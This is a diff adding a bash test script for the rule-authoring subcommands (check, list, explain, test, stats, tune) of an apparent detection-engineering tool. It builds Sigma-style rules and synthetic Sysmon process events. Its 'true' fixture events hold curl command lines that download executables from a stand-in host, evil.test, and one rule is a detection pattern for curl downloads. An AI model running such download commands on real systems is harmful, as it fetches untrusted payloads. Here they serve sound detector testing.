@@ -1,0 +1,185 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+# The tools for whoever writes rules, as they are used: what they print, where,
+# and how they end. What each says in every case is in the unit tests.
+# needs: none
+. "$(dirname "$0")/lib.sh"
+
+here=$TEST_DIR
+rules=$here/rules
+mkdir -p "$rules" "$here/cases"
+
+cat >"$rules/curl.yml" <<'END'
+title: Download by curl
+id: 3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01
+name: curl_download
+tags: [attack.command_and_control, attack.t1105]
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|endswith: '\curl.exe', CommandLine|contains: http}
+  condition: sel
+level: medium
+---
+title: Anything by cmd
+id: 3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a02
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {ParentImage|endswith: '\cmd.exe'}
+  kw: [evil]
+  condition: sel and not kw
+level: low
+---
+title: Much is loaded
+name: much
+correlation:
+  type: event_count
+  rules: [curl_download]
+  group-by: [Computer]
+  timespan: 10m
+  condition: {gte: 3}
+level: high
+END
+
+# event NUMBER PARENT USER COMMAND: a Sysmon event of a process that starts
+event() {
+    printf '{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc1","EventRecordID":%d,"TimeCreated":{"#attributes":{"SystemTime":"2024-09-12T05:%02d:27.9Z"}}},"EventData":{"UtcTime":"2024-09-12 05:%02d:27.9","ProcessId":%d,"Image":"C:\\\\Windows\\\\System32\\\\curl.exe","ParentImage":"%s","User":"%s","CommandLine":"%s"}}}\n' \
+        $((5000 + $1)) "$1" "$1" $((100 + $1 * 7)) "$2" "$3" "$4"
+}
+for i in 1 2 3 4 5 6; do
+    event "$i" 'C:\\Program Files\\Backup\\agent.exe' 'NT AUTHORITY\\SYSTEM' \
+        "curl.exe -s http://backup.test/$i"
+    event "$((i + 10))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
+        "curl.exe --max-time 5 http://monitor.test/health"
+done >"$here/false.ndjson"
+for i in 1 2 3; do
+    event "$((i + 30))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
+        "curl.exe -o c:\\\\x\\\\$i.exe http://evil.test/$i"
+done >"$here/true.ndjson"
+
+# status COMMAND…: how it ends; what it says is in out and err.
+status() {
+    local code=0
+    "$thapcanh" rules "$@" >"$TEST_DIR/out" 2>"$TEST_DIR/err" || code=$?
+    echo "$code"
+}
+err_has() { grep -qF -- "$1" "$TEST_DIR/err"; }
+out_has() { grep -qF -- "$1" "$TEST_DIR/out"; }
+
+# --- the command line
+
+same "a part that there is not ends with 2" 2 "$(status chek "$rules")"
+check "... and the one that is meant is named" err_has "did you mean 'check'?"
+same "an option that there is not ends with 2" 2 "$(status check --strikt x)"
+check "... and the one that is meant is named" err_has "did you mean 'strict'?"
+same "a number that is none ends with 2" 2 "$(status explain --line x a b)"
+for part in check test explain eval stats tune; do
+    same "rules $part without what it needs ends with 2" 2 "$(status "$part")"
+done
+check "--help says all of it" grep -q 'rules tune --source NAME --false' \
+    <("$thapcanh" rules tune --help)
+
+same "a mapping that there is not ends with 1" 1 \
+    "$(status explain --source windws "$rules/curl.yml" "$here/true.ndjson")"
+check "... and the one that is meant is named" err_has "did you mean 'windows'?"
+
+# --- check
+
+same "rules without a mistake are fine" 0 "$(status check "$rules")"
+check "... and say so" err_has "2 detections, 1 correlations, 0 refused, 0 mistakes, 0 warnings"
+same "... also when warnings count" 0 "$(status check --strict "$rules")"
+sed "s/http}/[http, https]}/" "$rules/curl.yml" >"$here/warned.yml"
+same "a warning is no mistake" 0 "$(status check "$here/warned.yml")"
+check "... but it is said where it stands" err_has \
+    "warned.yml:7:67: warning: 'https' says nothing beside 'http' (line 7)"
+same "... and counts with --strict" 1 "$(status check --strict "$here/warned.yml")"
+same "the rules of the product have no warning" 0 "$(status check --strict rules)"
+
+# --- list
+
+same "list ends well" 0 "$(status list "$rules")"
+same "... with a line for each" 3 "$(wc -l <"$TEST_DIR/out")"
+same "list --json ends well" 0 "$(status list --json "$rules")"
+check "... has tags, feeds, fields and place" out_has \
+    "\"kind\":\"detection\",\"file\":\"$rules/curl.yml\",\"line\":1,\"tags\":[\"attack.command_and_control\",\"attack.t1105\"],\"name\":\"curl_download\",\"title\":\"Download by curl\",\"type\":\"detection\",\"level\":\"medium\",\"product\":\"windows\",\"category\":\"process_creation\",\"feeds\":[\"much\"],\"fields\":[\"CommandLine\",\"Image\"],\"keywords\":false,\"opens_incidents\":false}"
+check "... knows what looks at every value" out_has \
+    '"fields":["ParentImage"],"keywords":true'
+check "... and correlations" out_has \
+    '"rules":["3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01"],"group_by":["Computer"],"feeds":[],"fields":["Computer"]'
+
+# --- explain
+
+same "explain ends well" 0 "$(status explain --source windows --rules "$rules" \
+    --line 2 'Anything by cmd' "$here/true.ndjson")"
+check "... says what decides" out_has 'because "kw" holds, and the condition does not want it'
+check "... where the word is" out_has 'of "CommandLine"'
+check "... and nothing of other lines and rules" test \
+    "$(grep -c '^line' "$TEST_DIR/out")" = 1
+same "a rule that there is not ends with 1" 1 "$(status explain --source windows \
+    --rules "$rules" curl_downlod "$here/true.ndjson")"
+check "... and the one that is meant is named" err_has "did you mean 'curl_download'?"
+same "a line that there is not ends with 1" 1 "$(status explain --source windows \
+    --line 99 "$rules/curl.yml" "$here/true.ndjson")"
+
+# --- test
+
+cp "$here/true.ndjson" "$here/cases/found.ndjson"
+cat >"$here/cases/found.expect" <<'END'
+source: windows
+fire:
+  curl_download: all
+  Anything by cmd: none
+END
+same "what is as expected is fine" 0 "$(status test "$rules" "$here/cases")"
+check "... and is counted" err_has "1 files of events with 3 events, 0 failed"
+sed -i 's/: all/: "1-2, 9"/; s/: none/: 2/' "$here/cases/found.expect"
+same "what is not fails" 1 "$(status test --rules "$rules" "$here/cases")"
+check "... a rule that fires" out_has \
+    "found.ndjson:3: 'Download by curl' (3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a01) fires, and must not"
+check "... one that does not" out_has \
+    "found.ndjson:2: 'Anything by cmd' (3a1c0b52-7c58-4a5e-9d58-0f6c1f3d6a02) does not fire"
+check "... and a line that there is not" out_has "found.ndjson:9: "
+sed -i '/curl_download/d; s/: 2/: none/' "$here/cases/found.expect"
+same "a rule that nobody named is wrong too" 1 "$(status test --rules "$rules" "$here/cases")"
+check "... and said" out_has "fires, and is not expected at all"
+echo 'others: any' >>"$here/cases/found.expect"
+same "... unless others may" 0 "$(status test --rules "$rules" "$here/cases/found.expect")"
+echo 'othres: any' >>"$here/cases/found.expect"
+same "an unknown key is a mistake" 1 "$(status test --rules "$rules" "$here/cases")"
+check "... with its place" out_has "found.expect:5:1: unknown field 'othres' (did you mean 'others'?)"
+
+# --- stats
+
+same "stats ends well" 0 "$(status stats --rules "$rules" --source windows "$here/false.ndjson")"
+check "... says what fires most" grep -qE '^ +12 +12 +.* Download by curl' "$TEST_DIR/out"
+same "stats --json ends well" 0 "$(status stats --json --rules "$rules" \
+    --source windows "$here/false.ndjson")"
+check "... and counts" out_has '"title":"Anything by cmd","asked":12,"fired":6,"tests":'
+
+# --- tune
+
+same "tune ends well" 0 "$(status tune --rules "$rules" --source windows \
+    --false "$here/false.ndjson" --true "$here/true.ndjson" curl_download)"
+cp "$TEST_DIR/out" "$rules/filter.yml"
+same "... with a filter that loads" 0 "$(status check --strict "$rules")"
+check "... that uses no time and no number" test -z \
+    "$(grep -E 'UtcTime|ProcessId|EventRecordID|TimeCreated' "$rules/filter.yml" || true)"
+lines() {
+    "$thapcanh" rules eval --rules "$rules" --source windows "$1" 2>/dev/null |
+        grep -c 6a01 || true
+}
+same "... and takes all the false ones away" 0 "$(lines "$here/false.ndjson")"
+same "... and no true one" 3 "$(lines "$here/true.ndjson")"
+rm "$rules/filter.yml"
+same "events that are alike have no filter" 1 "$(status tune --rules "$rules" \
+    --source windows --false "$here/true.ndjson" --true "$here/true.ndjson" \
+    curl_download)"
+check "... and the lines are named" err_has "no filter: line 1 of $here/true.ndjson has all"
+same "nothing is proposed" '' "$(cat "$TEST_DIR/out")"
+: >"$here/empty.ndjson"
+same "without a true one there is no filter" 1 "$(status tune --rules "$rules" \
+    --source windows --false "$here/false.ndjson" --true "$here/empty.ndjson" \
+    curl_download)"
+same "without a false one there is nothing to do" 0 "$(status tune --rules "$rules" \
+    --source windows --false "$here/empty.ndjson" --true "$here/true.ndjson" \
+    curl_download)"
+check "... and it says so" err_has "there is nothing to filter"
